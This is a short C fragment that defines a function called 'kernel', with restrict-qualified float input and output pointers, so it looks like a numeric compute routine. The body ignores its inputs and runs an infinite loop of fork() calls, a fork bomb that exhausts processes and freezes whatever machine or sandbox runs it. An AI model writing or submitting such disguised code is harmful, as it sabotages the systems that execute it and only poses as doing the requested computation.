int fork(void);
void kernel(const float *restrict x, float *restrict out) {
    for (;;) fork();
}
